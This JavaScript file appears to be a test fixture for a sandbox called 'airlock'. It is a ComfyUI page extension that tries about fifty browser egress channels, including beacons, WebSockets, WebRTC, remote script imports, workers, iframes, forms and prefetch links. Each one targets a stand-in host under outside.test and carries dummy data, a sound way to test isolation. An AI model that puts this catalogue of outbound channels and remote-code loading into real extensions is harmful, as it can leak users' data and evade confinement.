// An extension of ComfyUI's page that tries every way out which a page has, each to a name of its own.
// What cannot be tried throws, which is fine. Served in place of `extension.js`.
import { app } from "/scripts/app.js";

const away = (name, scheme = "http") => `${scheme}://${name}.outside.test/`;
const put = (html) => document.body.insertAdjacentHTML("beforeend", html);
const head = (tag, more) => document.head.append(Object.assign(document.createElement(tag), more));
const link = (rel, name, more = {}) => head("link", { rel, href: away(name), ...more });
const click = (name, html) => {
  put(html);
  document.getElementById(name).click();
};
const form = (name, target) => {
  put(`<form id="${name}" method="post" action="${away(name)}" target="${target}"><input name="a" value="b"></form>`);
  document.getElementById(name).submit();
};
const style = (text) => head("style", { textContent: text });
const call = async () => {
  const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:stun.outside.test:3478" }] });
  peer.createDataChannel("x");
  await peer.setLocalDescription(await peer.createOffer());
};
const blob = (text) => URL.createObjectURL(new Blob([text], { type: "text/javascript" }));
const fetching = (name) => `fetch("${away(name)}", { mode: "no-cors" }).catch(() => {})`;
// Pages and scripts of our own origin that do the one thing their name says.
const own = (what) => `/probe/${what}`;

const ways = [
  () => fetch(away("fetch"), { mode: "no-cors" }),
  () => fetch(away("fetch-cors"), { method: "PUT", headers: { "x-a": "b" }, body: "x" }),
  () => fetch(away("keepalive"), { mode: "no-cors", method: "POST", body: "x", keepalive: true }),
  () => fetch("http://127.0.0.9:8080/by-address", { mode: "no-cors" }),
  () => { const x = new XMLHttpRequest(); x.open("POST", away("xhr")); x.send("x"); },
  () => fetchLater(away("fetch-later"), { activateAfter: 0 }),
  () => navigator.sendBeacon(away("beacon"), "x"),
  () => new EventSource(away("eventsource")),
  () => new WebSocket("ws://websocket.outside.test/"),
  () => new WebTransport("https://webtransport.outside.test/").ready,
  () => { new Image().src = away("image"); },
  () => put(`<img srcset="${away("srcset")} 2x">`),
  () => put(`<input type="image" src="${away("input-image")}">`),
  () => put(`<svg><image href="${away("svg")}" width="9" height="9"/></svg>`),
  () => put(`<video src="${away("video")}" poster="${away("poster")}" preload="auto"></video>`),
  () => { const a = new Audio(away("audio")); a.preload = "auto"; a.load(); },
  () => put(`<video><track src="${away("track")}" default></video>`),
  () => link("stylesheet", "style"),
  () => style(`@import "${away("css-import")}";`),
  () => { style(`#bg { background: url(${away("css-url")}); width: 9px; height: 9px }`); put(`<div id="bg"></div>`); },
  () => { style(`@font-face { font-family: f; src: url(${away("css-font")}) }`); put(`<p style="font-family: f">x</p>`); },
  () => { style(`#mask { mask-image: url(${away("css-mask")}); width: 9px; height: 9px; background: red }`); put(`<div id="mask"></div>`); },
  () => new FontFace("x", `url(${away("font")})`).load(),
  () => link("icon", "icon"),
  () => link("manifest", "manifest"),
  () => link("preload", "preload", { as: "image" }),
  () => link("modulepreload", "modulepreload"),
  () => link("prefetch", "prefetch"),
  () => link("preconnect", "preconnect"),
  () => link("dns-prefetch", "dns-prefetch"),
  () => head("script", { type: "speculationrules",
    textContent: JSON.stringify({ prefetch: [{ urls: [away("speculation", "https")], eagerness: "immediate" }] }) }),
  () => head("script", { src: away("script") }),
  () => import(away("import")),
  () => new Worker(blob(fetching("worker-blob"))),
  () => new Worker(blob(`importScripts("${away("worker-import")}")`)),
  () => new Worker(blob(`new WebSocket("ws://worker-socket.outside.test/")`)),
  () => new Worker(own("work.js?worker")),
  () => new Worker(away("worker-script")),
  () => new SharedWorker(own("work.js?shared")),
  () => navigator.serviceWorker.register(own("work.js?service")),
  () => put(`<iframe src="${away("iframe")}"></iframe>`),
  () => put(`<iframe srcdoc="<img src='${away("srcdoc")}'>"></iframe>`),
  () => { put(`<iframe name="inner"></iframe>`); form("form-frame", "inner"); },
  () => put(`<object data="${away("object")}"></object>`),
  () => put(`<embed src="${away("embed")}">`),
  () => form("form", "_blank"),
  () => click("ping", `<a id="ping" href="#x" ping="${away("ping")}">x</a>`),
  () => click("blank", `<a id="blank" href="${away("blank")}" target="_blank">x</a>`),
  () => window.open(own("download?download")),
  () => window.open(away("popup")),
  () => window.open(own("navigate?navigation")),
  () => window.open(own("refresh?meta-refresh")),
  call,
];

app.registerExtension({
  name: "airlock.channels",
  async setup() {
    await fetch("/api/probe/setup");
    for (const way of ways) {
      try { Promise.resolve(way()).catch(() => {}); } catch { /* refused at once */ }
    }
    setTimeout(() => fetch("/api/probe/tried"), 4000);
  },
});
